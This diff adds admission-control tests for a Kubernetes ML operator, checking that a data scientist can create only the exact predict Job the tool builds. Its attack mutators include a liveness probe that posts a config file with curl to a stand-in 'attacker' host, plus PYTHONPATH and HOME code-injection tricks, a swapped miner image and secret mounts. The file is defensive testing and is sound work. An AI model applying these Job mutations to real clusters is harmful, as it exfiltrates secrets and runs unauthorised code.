@@ -9,6 +9,9 @@ import uuid
 
 import pytest
 import yaml
+from floe_operator.api.snowflakedeployment import SnowflakeDeploymentSpec
+from floe_operator.builders.snowflakedeployment import DeployTarget, ModelLocation, deploy_objects, predict_job
+from floe_operator.settings import OperatorSettings
 
 from tests.cluster.controlplane import kubectl
 
@@ -268,6 +271,164 @@ def test_a_deployment_uses_only_the_deploy_connection(cluster, tenant):
 def test_reserved_pod_labels_and_annotations_are_refused(cluster, tenant, pod_metadata):
     job = finetunejob(tenant["name"], "hijack", podMetadata=pod_metadata)
     assert refused(cluster.apply(job, as_user="eli"), "reserved")
+
+
+# --- 7. a predict Job runs floe-deploy --predict as the operator would, and nothing else -----------------
+
+
+def predict(tenant: dict) -> dict:
+    """The Job `floe predict` creates (predict_job, from the deploy Job the operator builds with its own
+    image) for a local deployment `news` whose model is on the claim `models`."""
+    target = DeployTarget(tenant["name"], "news", "sfd-uid", OperatorSettings.from_env().trainer_image, None)
+    spec = SnowflakeDeploymentSpec.model_validate({
+        "source": {"modelUri": "pvc://models/m"},
+        "snowflake": {"mode": "local", "database": "ML", "schema": "PUBLIC", "stage": "S", "functionName": "F"}})
+    _, (_, deploy_job) = deploy_objects(target, spec, ModelLocation("models", "m", "uri:m"))
+    job = predict_job(deploy_job, ["A storm hit the coast."])
+    job["metadata"]["ownerReferences"][0]["uid"] = tenant["owner_uid"]  # an object that exists: the FineTuneJob's
+    return job
+
+
+@pytest.fixture(scope="module")
+def as_data_scientist(cluster, tenant):
+    """Create a Job (dry run) as ana, the Project's data scientist, once the operator has bound her role."""
+    cluster.wait_for(lambda: cluster.kubectl("auth", "can-i", "create", "jobs.batch", "-n", tenant["name"],
+                                             as_user="ana").stdout.strip() == "yes", 60, "ana's persona role")
+
+    def create(job: dict):
+        return cluster.kubectl("create", "--dry-run=server", "-f", "-", input=yaml.safe_dump(job), as_user="ana")
+
+    return create
+
+
+def test_a_data_scientist_creates_the_predict_job_floe_predict_builds(tenant, as_data_scientist):
+    # The control for the attacks below.
+    result = as_data_scientist(predict(tenant))
+    assert result.returncode == 0, result.stderr
+
+
+def _pod(job):
+    return job["spec"]["template"]["spec"]
+
+
+def _container(job):
+    return _pod(job)["containers"][0]
+
+
+def _mount(job, name, path):
+    _container(job)["volumeMounts"] = [m for m in _container(job)["volumeMounts"] if m["name"] != name] + [
+        {"name": name, "mountPath": path}]
+
+
+def _busybox(job):
+    _container(job)["command"] = ["sh", "-c", "cat /var/run/floe/models-volume/*"]
+
+
+def _other_image(job):
+    # Any image whose entrypoint is called floe-deploy: arbitrary code in the namespace.
+    _container(job)["image"] = "registry.example/miner:1"
+
+
+def _pythonpath(job):
+    # The trainer image, but Python loads a sitecustomize.py from the claim (written from a Workspace).
+    _container(job)["env"].append({"name": "PYTHONPATH", "value": "/var/run/floe/models-volume/lib"})
+
+
+def _home_on_the_claim(job):
+    # ~/.local/lib/python3.x/site-packages/*.pth run at start-up.
+    _container(job)["env"] = [{"name": "HOME", "value": "/var/run/floe/models-volume"}]
+
+
+def _claim_over_site_packages(job):
+    _mount(job, "model", "/usr/local/lib/python3.11/site-packages")
+
+
+def _another_config(job):
+    _pod(job)["volumes"][0]["configMap"]["name"] = "owner-train"
+
+
+def _secret_volume(job):
+    _pod(job)["volumes"].append({"name": "s", "secret": {"secretName": "sf-deploy"}})
+    _container(job)["volumeMounts"].append({"name": "s", "mountPath": "/s"})
+
+
+def _pull_secret(job):
+    _pod(job)["imagePullSecrets"] = [{"name": "sf-deploy"}]
+
+
+def _probe(job):
+    _container(job)["livenessProbe"] = {"exec": {"command": ["sh", "-c", "curl -d @/etc/floe attacker"]}}
+
+
+def _post_start(job):
+    _container(job)["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}
+
+
+def _trainer_labels(job):
+    # The labels the operator follows a FineTuneJob's trainer by: its termination message becomes the metrics.
+    for meta in (job["metadata"], job["spec"]["template"]["metadata"]):
+        meta["labels"]["floe.dev/finetunejob"] = "owner"
+
+
+def _operator_label(job):
+    job["metadata"]["labels"].update(MANAGED)
+
+
+def _trainer_name(job):
+    # The trainer Job's name (the FineTuneJob is suspended): the operator would take it for its own.
+    del job["metadata"]["generateName"]
+    job["metadata"]["name"] = "owner-train"
+
+
+def _manual_selector(job):
+    job["spec"]["manualSelector"] = True
+    job["spec"]["selector"] = {"matchLabels": {"floe.dev/predict": "news"}}
+
+
+def _node(job):
+    _pod(job)["nodeName"] = "local-runner"
+
+
+def _tolerations(job):
+    _pod(job)["tolerations"] = [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
+
+
+def _priority(job):
+    _pod(job)["priorityClassName"] = "system-node-critical"
+
+
+def _device(job):
+    _container(job)["resources"]["limits"]["example.com/fpga"] = "1"
+
+
+@pytest.mark.parametrize(
+    ("mutate", "words"),
+    [
+        (_busybox, "may create only predict Jobs here"),
+        (_other_image, "runs the image floe deploys with in this namespace"),
+        (_pythonpath, "sets only the deployer's environment"),
+        (_home_on_the_claim, "sets only the deployer's environment"),
+        (_claim_over_site_packages, "a claim read-only at /var/run/floe/models-volume"),
+        (_another_config, "its deployment's deploy ConfigMap (news-deploy)"),
+        (_secret_volume, "reads no Secret"),
+        (_pull_secret, "no imagePullSecrets"),
+        (_probe, "without args, workingDir, probes or hooks"),
+        (_post_start, "without args, workingDir, probes or hooks"),
+        (_trainer_labels, "labelled floe.dev/predict=<deployment> and"),
+        (_operator_label, "labelled floe.dev/predict=<deployment> and"),
+        (_trainer_name, "not owner-train"),
+        (_manual_selector, "labelled floe.dev/predict=<deployment> and"),
+        (_node, "runs where the default scheduler puts it"),
+        (_tolerations, "runs where the default scheduler puts it"),
+        (_priority, "runs where the default scheduler puts it"),
+        (_device, "CPU and memory only"),
+    ],
+    ids=lambda v: v.__name__.strip("_") if callable(v) else "",
+)
+def test_a_data_scientist_creates_no_other_job(tenant, as_data_scientist, mutate, words):
+    job = predict(tenant)
+    mutate(job)
+    assert refused(as_data_scientist(job), words)
 
 
 # --- 8. the smaller ones ---------------------------------------------------------------------------------
